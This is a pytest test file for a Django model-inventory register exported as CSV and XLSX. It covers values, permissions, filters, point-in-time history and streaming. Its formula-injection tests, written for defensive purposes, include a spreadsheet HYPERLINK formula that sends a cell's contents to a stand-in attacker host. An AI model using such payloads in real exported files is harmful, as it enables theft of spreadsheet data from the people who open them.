"""The inventory register as CSV and XLSX: read back, right rows and values, filters, history, injection, streaming."""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from governance.models import Finding
from governance.services.findings import finding_close, finding_raise
from inventory.choices import LifecycleStage, VersionState
from inventory.models import ModelVersion, RegisteredModel
from inventory.services import registered_model_update
from reports.cells import neutralise
from reports.register import REGISTER_COLUMNS, register_csv, register_rows, register_xlsx
from tests.factories import ModelVersionFactory, RegisteredModelFactory

HEADERS = [column.header for column in REGISTER_COLUMNS]
COLUMN = {column.id: index for index, column in enumerate(REGISTER_COLUMNS)}

pytestmark = pytest.mark.django_db


def read_csv(pieces: Any) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO("".join(pieces))))
    assert rows[0] == HEADERS
    return [dict(zip(HEADERS, row, strict=True)) for row in rows[1:]]


def keys_of(rows: list[dict[str, str]]) -> list[str]:
    return [row["Model ID"] for row in rows]


def backdate_history(days: int) -> None:
    """Move every inventory history record back, as if the models had been registered ``days`` ago."""
    RegisteredModel.history.update(history_date=timezone.now() - datetime.timedelta(days=days))


# --- cells ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Retail PD", "a=b", "", -3, 2.5, None, datetime.date(2026, 1, 1)])
def test_other_values_are_left_alone(value: Any) -> None:
    assert neutralise(value) == value


# --- CSV -----------------------------------------------------------------------------------------------------


def test_csv_reads_back_with_the_values_of_each_model(personas: Any, inventory: Any) -> None:
    rows = read_csv(register_csv(user=personas.risk_officer))

    assert keys_of(rows) == ["CB-0001", "RB-0001", "RB-0002", "RB-0003"]
    production = rows[3]
    assert production["Model name"] == "Mortgage LGD"
    assert production["Lifecycle stage"] == "Production"
    assert production["Business unit"] == "Retail Banking (RETAIL)"
    assert production["Business owner"].endswith("(owner_a)")
    assert production["Validators"] == "validator_assigned"
    assert production["Tags"] == "pd; retail"
    assert production["Vendor / provider"] == "Acme Analytics"
    assert production["Risk tier"] == "Not assessed"
    assert production["Open findings"] == "0"
    due = timezone.localdate() - datetime.timedelta(days=3)
    assert production["Next validation due"] == due.isoformat()
    assert production["Registered on"] == timezone.localdate().isoformat()
    assert rows[0]["Data sensitivity"] == "Confidential"


def test_owner_register_holds_only_their_models(personas: Any, inventory: Any) -> None:
    rows = read_csv(register_csv(user=personas.owner_a))

    assert keys_of(rows) == ["RB-0001", "RB-0003"]  # never CB-0001 (another unit, confidential) nor RB-0002


@pytest.mark.parametrize("user", ["no_role", "ci_unscoped"])
def test_users_without_models_get_an_empty_register(personas: Any, inventory: Any, user: str) -> None:
    assert read_csv(register_csv(user=getattr(personas, user))) == []


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"stage": ["production"]}, ["RB-0003"]),
        ({"unit": "CORP"}, ["CB-0001"]),
        ({"tag": "PD"}, ["RB-0003"]),
        ({"validator": "validator_assigned"}, ["RB-0001", "RB-0003"]),
        ({"validation_overdue": "true"}, ["RB-0003"]),
        ({"q": "fraud"}, ["RB-0002"]),
        ({"owner": "owner_b", "page": "3"}, ["RB-0002"]),
        ({"ordering": "-key"}, ["RB-0003", "RB-0002", "RB-0001", "CB-0001"]),
    ],
)
def test_filters_are_the_inventory_lists(personas: Any, inventory: Any, params: Any, expected: list[str]) -> None:
    assert keys_of(read_csv(register_csv(user=personas.risk_officer, params=params))) == expected


def test_filters_never_widen_what_an_owner_sees(personas: Any, inventory: Any) -> None:
    assert keys_of(read_csv(register_csv(user=personas.owner_a, params={"unit": "CORP"}))) == []


@pytest.mark.parametrize(
    ("params", "field"),
    [({"stage": ["bogus"]}, "stage"), ({"unit": "NOPE"}, "unit"), ({"ordering": "password"}, "ordering")],
)
def test_a_bad_filter_is_refused_before_any_output(personas: Any, params: Any, field: str) -> None:
    with pytest.raises(ValidationError) as refused:
        register_csv(user=personas.risk_officer, params=params)
    assert field in refused.value.message_dict


def test_formula_injection_is_neutralised_in_csv(personas: Any) -> None:
    RegisteredModelFactory(
        key="RB-0009",
        name='=HYPERLINK("http://evil.example/?"&A1,"x")',
        purpose="@SUM(1)",
        business_unit=personas.unit,
        business_owner=personas.owner_a,
        technical_owner=personas.owner_a,
        limitations="-1+1",
    )
    row = read_csv(register_csv(user=personas.owner_a, params={"q": "RB-0009"}))[0]

    assert row["Model name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert row["Purpose and intended use"] == "'@SUM(1)"
    assert row["Known limitations"] == "'-1+1"


def test_csv_streams_in_chunks_with_queries_per_chunk_not_per_row(personas: Any) -> None:
    for number in range(3, 9):
        RegisteredModelFactory(
            key=f"RB-{number:04d}",
            business_unit=personas.unit,
            business_owner=personas.owner_a,
            technical_owner=personas.owner_a,
            tags=["pd"],
        )
    # 8 visible models (RB-0001 .. RB-0008) for the Risk Officer.

    def run(chunk_size: int) -> tuple[int, int, int]:
        with CaptureQueriesContext(connection) as queries:
            pieces = register_csv(user=personas.risk_officer, chunk_size=chunk_size)
            header = next(pieces)
            first = next(pieces)
            after_first = len(queries)
            rest = list(pieces)
        assert header.startswith("Model ID,")
        assert len(list(csv.reader(io.StringIO(first)))) == min(chunk_size, 8)
        return after_first, len(queries), len(rest)

    list(register_csv(user=personas.risk_officer))  # warms the user's permission cache
    first_of_4, total_of_4, _ = run(4)
    first_of_2, total_of_2, rest_of_2 = run(2)
    assert rest_of_2 == 3  # four chunks of two rows: one yielded before, three after
    assert first_of_2 < total_of_2  # the first chunk came before the rows were all read
    # Four queries more per chunk (its approvals, open findings, tags and validators), whatever its number of rows.
    assert total_of_2 - total_of_4 == 4 * (4 - 2)
    assert first_of_2 == first_of_4


# --- XLSX ----------------------------------------------------------------------------------------------------


def test_xlsx_is_formatted_and_typed(personas: Any, inventory: Any, tmp_path: Path) -> None:
    path = tmp_path / "register.xlsx"

    written = register_xlsx(user=personas.risk_officer, path=path)

    assert written == 4
    workbook = load_workbook(path)
    sheet: Any = workbook["Register"]
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert sheet[1][0].font.bold
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(HEADERS)).column_letter}5"
    assert sheet.freeze_panes == "B2"
    assert sheet.column_dimensions["C"].width == REGISTER_COLUMNS[2].width
    rows: dict[Any, Any] = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert list(rows) == ["CB-0001", "RB-0001", "RB-0002", "RB-0003"]
    due = rows["RB-0003"][COLUMN["next_validation_due"]]
    assert due.is_date and due.value.date() == timezone.localdate() - datetime.timedelta(days=3)
    assert due.number_format == "yyyy-mm-dd"
    changed = rows["RB-0003"][COLUMN["last_changed"]]
    assert changed.is_date and changed.value.tzinfo is None
    assert rows["RB-0003"][COLUMN["open_findings"]].value == 0
    assert rows["RB-0003"][COLUMN["tags"]].value == "pd; retail"
    about = workbook["About"]
    assert any(row[0] == "As of" and row[1] == "now" for row in about.iter_rows(values_only=True))


def test_xlsx_of_an_owner_honours_permissions_and_filters(personas: Any, inventory: Any, tmp_path: Path) -> None:
    path = tmp_path / "register.xlsx"

    written = register_xlsx(user=personas.owner_a, params={"stage": ["production"]}, path=path)

    sheet = load_workbook(path)["Register"]
    assert written == 1
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["RB-0003"]
    about = {row[0]: row[1] for row in load_workbook(path)["About"].iter_rows(values_only=True) if row}
    assert about["Filters"] == "stage=production"


def test_formula_injection_is_neutralised_in_xlsx(personas: Any, tmp_path: Path) -> None:
    RegisteredModelFactory(
        key="RB-0009",
        name="=1+2",
        business_unit=personas.unit,
        business_owner=personas.owner_a,
        technical_owner=personas.owner_a,
    )
    path = tmp_path / "register.xlsx"
    register_xlsx(user=personas.owner_a, params={"q": "RB-0009"}, path=path)

    cell = load_workbook(path)["Register"].cell(2, COLUMN["name"] + 1)
    assert cell.data_type == "s"
    assert cell.value == "'=1+2"


# --- as of a date --------------------------------------------------------------------------------------------


def test_as_of_gives_the_register_as_it_stood(personas: Any, inventory: Any, tmp_path: Path) -> None:
    backdate_history(10)
    registered_model_update(
        actor=personas.owner_a,
        model=personas.model_a,
        changes={"name": "Retail PD scorecard v2", "lifecycle_stage": LifecycleStage.PRODUCTION, "tags": ["new"]},
        reason="Went live",
    )
    RegisteredModelFactory(
        key="RB-0010",
        business_unit=personas.unit,
        business_owner=personas.owner_a,
        technical_owner=personas.owner_a,
    )
    last_week = timezone.localdate() - datetime.timedelta(days=7)

    then = read_csv(register_csv(user=personas.owner_a, as_of=last_week))
    now = read_csv(register_csv(user=personas.owner_a, as_of=timezone.localdate()))

    assert keys_of(then) == ["RB-0001", "RB-0003"]  # RB-0010 did not exist yet
    assert then[0]["Model name"] == "Retail PD scorecard"
    assert then[0]["Lifecycle stage"] == "Development"
    assert then[0]["Tags"] == ""
    assert keys_of(now) == ["RB-0001", "RB-0003", "RB-0010"]
    assert now[0]["Model name"] == "Retail PD scorecard v2"
    assert now[0]["Lifecycle stage"] == "Production"
    assert now[0]["Tags"] == "new"
    # Filters judge the record as it stood then.
    production_then = register_csv(user=personas.owner_a, as_of=last_week, params={"stage": ["production"]})
    assert keys_of(read_csv(production_then)) == ["RB-0003"]
    assert keys_of(read_csv(register_csv(user=personas.owner_a, as_of=last_week, params={"tag": "new"}))) == []
    assert keys_of(read_csv(register_csv(user=personas.owner_a, params={"tag": "new"}))) == ["RB-0001"]
    # The XLSX says so too.
    path = tmp_path / "then.xlsx"
    assert register_xlsx(user=personas.owner_a, as_of=last_week, path=path) == 2
    about = {row[0]: row[1] for row in load_workbook(path)["About"].iter_rows(values_only=True) if row}
    assert about["As of"] == last_week.isoformat()


def test_as_of_never_shows_models_the_user_may_not_see(personas: Any, inventory: Any) -> None:
    backdate_history(10)
    last_week = timezone.localdate() - datetime.timedelta(days=7)

    assert keys_of(read_csv(register_csv(user=personas.owner_b, as_of=last_week))) == ["RB-0002"]


def test_register_rows_gives_typed_values(personas: Any, inventory: Any) -> None:
    rows = {row[0]: row for row in register_rows(user=personas.risk_officer)}

    assert isinstance(rows["RB-0003"][COLUMN["next_validation_due"]], datetime.date)
    assert isinstance(rows["RB-0003"][COLUMN["last_changed"]], datetime.datetime)
    assert rows["RB-0003"][COLUMN["open_findings"]] == 0


def test_approval_and_open_findings_columns_now_and_then(personas: Any, inventory: Any) -> None:

    now = timezone.now()
    old = ModelVersionFactory(model=personas.model_a, version="1.0.0", actor=personas.owner_a)
    new = ModelVersionFactory(model=personas.model_a, version="2.0.0", actor=personas.owner_a)
    # The workflow is governance's to test; here only its outcome matters: 1.0.0 approved 20 days ago, 2.0.0 today.
    ModelVersion.objects.filter(pk=old.pk).update(
        state=VersionState.APPROVED,
        approved_at=now - datetime.timedelta(days=20),
        approval_expires_at=now + datetime.timedelta(days=345),
    )
    ModelVersion.objects.filter(pk=new.pk).update(
        state=VersionState.DEPLOYED, approved_at=now, approval_expires_at=now + datetime.timedelta(days=365)
    )
    due = timezone.localdate() + datetime.timedelta(days=30)
    kept = finding_raise(
        actor=personas.risk_officer, model=personas.model_a, title="Drift", severity="high", due_date=due
    )
    closed = finding_raise(
        actor=personas.risk_officer, model=personas.model_a, title="Docs", severity="low", due_date=due
    )
    finding_close(actor=personas.risk_officer, finding=closed, resolution="Documentation updated and reviewed.")
    assert kept.pk
    backdate_history(30)
    Finding.objects.update(created_at=now - datetime.timedelta(days=10))

    current = {row[0]: row for row in register_rows(user=personas.owner_a, params={"ordering": "-key"})}
    week_ago = timezone.localdate() - datetime.timedelta(days=7)
    then = {row[0]: row for row in register_rows(user=personas.owner_a, as_of=week_ago)}

    row = current["RB-0001"]
    assert row[COLUMN["approved_version"]] == "2.0.0"
    assert row[COLUMN["approved_on"]] == timezone.localdate()
    assert row[COLUMN["open_findings"]] == 1
    assert then["RB-0001"][COLUMN["approved_version"]] == "1.0.0"  # 2.0.0 was approved after that day
    assert then["RB-0001"][COLUMN["open_findings"]] == 2  # both raised by then, neither resolved by then
    assert current["RB-0003"][COLUMN["approved_version"]] == ""
    assert current["RB-0003"][COLUMN["tags"]] == "pd; retail"  # tags by id when the order is not by key
    assert then["RB-0003"][COLUMN["tags"]] == "pd; retail"
